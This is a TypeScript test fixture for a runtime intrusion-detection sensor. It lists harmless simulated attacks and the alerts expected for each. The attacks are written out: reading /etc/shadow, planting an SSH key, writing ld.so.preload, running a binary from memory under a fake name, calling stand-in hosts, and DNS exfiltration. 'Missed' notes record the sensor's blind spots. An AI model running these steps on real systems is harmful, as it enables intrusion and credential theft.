import type { Box } from '../support/box.ts';
import type { Attack } from '../support/service.ts';

const by = /^\/usr\/bin\/python3[.\d]*$/;
/** Code that the application runs for whoever sends it. */
const run = (box: Box, ...lines: readonly string[]): Promise<string> =>
  box.host(['node', '../support/post.mjs', 'https://127.0.0.1:8443/console', lines.join('\n')]);
const drop = (path: string): readonly string[] => [
  'import os, shutil',
  `shutil.copyfile("/bin/true", "${path}")`,
  `open("${path}", "ab").write(b"x")`,
  `os.chmod("${path}", 0o755)`,
];
const socket = 'import socket; s = socket.socket(); s.settimeout(1)';
const attempt = (line: string): string => `try: ${line}\nexcept OSError: pass`;

export const attacks: readonly Attack[] = [
  {
    name: 'a shell',
    kind: 'loud',
    act: (box) => run(box, 'import os; os.system("id")'),
    told: /^process-other-parent \/usr\/bin\/dash sh -c .*id/,
    by,
  },
  {
    name: 'a binary is dropped and run',
    kind: 'loud',
    act: (box) => run(box, ...drop('/tmp/xmrig'), 'os.spawnv(os.P_WAIT, "/tmp/xmrig", ["xmrig"])'),
    told: /^process-not-in-profile \/tmp\/xmrig/,
    by,
  },
  {
    name: 'a binary is run from memory',
    kind: 'loud',
    act: (box) =>
      run(
        box,
        'import os',
        'fd = os.memfd_create("x")',
        'os.write(fd, open("/bin/true", "rb").read() + b"x")',
        'pid = os.fork()',
        'if pid == 0: os.execv(f"/proc/self/fd/{fd}", ["kthreadd"])',
        'os.waitpid(pid, 0)',
      ),
    told: /^process-not-in-profile .*memfd:x/,
    by,
  },
  {
    name: 'a library is dropped and loaded',
    kind: 'loud',
    act: (box) =>
      run(
        box,
        'import ctypes, shutil',
        'shutil.copyfile("/usr/lib/x86_64-linux-gnu/libz.so.1", "/tmp/lib.so")',
        'open("/tmp/lib.so", "ab").write(b"x")',
        'ctypes.CDLL("/tmp/lib.so")',
      ),
    told: /^file-executed \/tmp\/lib\.so/,
    by,
  },
  {
    name: 'another program of the image',
    kind: 'loud',
    act: (box) => run(box, 'import subprocess; subprocess.run(["/usr/bin/id"])'),
    told: /^process-not-in-profile \/usr\/bin\/id/,
    by,
  },
  {
    name: 'it calls home',
    kind: 'loud',
    act: (box) => run(box, socket, attempt('s.connect(("198.51.100.7", 443))')),
    told: /^connection-\S+ tcp 198\.51\.100\.7:443/,
    by,
  },
  {
    name: 'it calls home on a port that is known',
    kind: 'loud',
    act: (box) => run(box, socket, attempt('s.connect(("198.51.100.8", 9000))')),
    told: /^connection-other-peer tcp 198\.51\.100\.8:9000/,
    by,
  },
  {
    name: 'accounts are read',
    kind: 'loud',
    act: (box) => run(box, 'open("/etc/shadow").read()'),
    told: /^file-not-in-profile \/etc\/shadow/,
    by,
  },
  {
    name: 'a key for logging in is written',
    kind: 'loud',
    act: (box) =>
      run(
        box,
        'import os; os.makedirs("/root/.ssh", exist_ok=True); open("/root/.ssh/authorized_keys", "w").write("x")',
      ),
    told: /^file-not-in-profile \/root\/\.ssh\/authorized_keys/,
    by,
  },
  {
    name: 'every program’s start is changed',
    kind: 'loud',
    act: (box) => run(box, 'open("/etc/ld.so.preload", "w").write("")'),
    told: /^file-not-in-profile \/etc\/ld\.so\.preload/,
    by,
  },
  {
    name: 'the application’s code is changed',
    kind: 'loud',
    act: (box) => run(box, 'open("/app/shop/catalogue.py", "a").write("# x")'),
    told: /^file-written \/app\/shop\/catalogue\.py/,
    by,
  },
  {
    name: 'code is put beside the application',
    kind: 'loud',
    act: (box) => run(box, 'open("/app/shop/backdoor.py", "w").write("x = 1\\n")', 'import shop.backdoor'),
    told: /^file-\S+ \/app\/shop\/backdoor\.py/,
    by,
  },
  {
    name: 'code is dropped and imported',
    kind: 'loud',
    act: (box) =>
      run(
        box,
        'import sys',
        'open("/tmp/stage2.py", "w").write("x = 1\\n")',
        'sys.path.insert(0, "/tmp")',
        'import stage2',
      ),
    told: /^file-executed \/tmp\/stage2\.py/,
    by,
  },
  {
    name: 'a back door listens',
    kind: 'loud',
    act: (box) => run(box, 'import socket; globals()["s"] = socket.socket(); s.bind(("0.0.0.0", 31337)); s.listen()'),
    told: /^listen-not-in-profile tcp port 31337/,
    by,
  },
  {
    name: 'data leaves by DNS',
    kind: 'quiet',
    act: (box) => run(box, 'import socket', attempt('socket.gethostbyname("secret.tunnel.example")')),
    told: /^connection-not-in-profile udp .*:53/,
    by,
  },
  {
    name: 'the interpreter is started again, with code',
    kind: 'quiet',
    act: (box) => run(box, 'import subprocess, sys; subprocess.run([sys.executable, "-c", "pass"])'),
    told: /^process-\S+ \/usr\/bin\/python3[.\d]* \S+ -c pass/,
    by,
  },
  {
    name: 'a program of the profile reads something else',
    kind: 'quiet',
    act: (box) =>
      run(box, 'import subprocess; subprocess.run(["gzip", "-c", "/etc/hostname"], stdout=subprocess.DEVNULL)'),
    told: /^process-other-arguments \/usr\/bin\/gzip/,
    by: /^\/usr\/bin\/(?:python3[.\d]*|gzip)$/,
  },
  {
    name: 'another port of a peer that is known',
    kind: 'quiet',
    act: (box) => run(box, socket, attempt('s.connect(("10.77.0.5", 22))')),
    told: /^connection-\S+ tcp 10\.77\.0\.5:22/,
    by,
  },
  {
    name: 'data leaves through a peer that is known',
    kind: 'quiet',
    act: (box) => run(box, socket, attempt('s.connect(("10.77.0.5", 9000))')),
    told: /10\.77\.0\.5:9000/,
    by,
    missed: 'the peer is the profile’s; what is said to it is not judged',
  },
  {
    name: 'a neighbour of the peers that are known',
    kind: 'quiet',
    act: (box) => run(box, socket, attempt('s.connect(("10.77.0.77", 9000))')),
    told: /10\.77\.0\.77:9000/,
    by,
    missed: 'two private peers were recorded on this port, and so the range that holds them is allowed',
  },
  {
    name: 'the environment is read',
    kind: 'quiet',
    act: (box) => run(box, 'open("/proc/1/environ").read()'),
    told: /^\S+ \S*environ/,
    by,
    missed: 'what is read below /proc is not shown by the sensor',
  },
  {
    name: 'the database is read as a file',
    kind: 'quiet',
    act: (box) => run(box, 'open("/data/shop.db", "rb").read()'),
    told: /^\S+ \S*shop\.db/,
    by,
    missed: 'the service reads its data itself',
  },
  {
    name: 'the application’s source is read',
    kind: 'quiet',
    act: (box) => run(box, 'open("/app/main.py").read()'),
    told: /^\S+ \S*main\.py/,
    by,
    missed: 'the interpreter reads it itself',
  },
  {
    name: 'loot is collected among the data',
    kind: 'quiet',
    act: (box) => run(box, 'open("/data/loot", "w").write("x")'),
    told: /^\S+ \S*loot/,
    by,
    missed: 'it writes its data there, under any name',
  },
  {
    name: 'code that is only in memory',
    kind: 'quiet',
    act: (box) => run(box, 'exec(compile("result = 1", "x", "exec"))'),
    told: /^\S+ \S*compile/,
    by,
    missed: 'an interpreter that runs text opens nothing',
  },
];
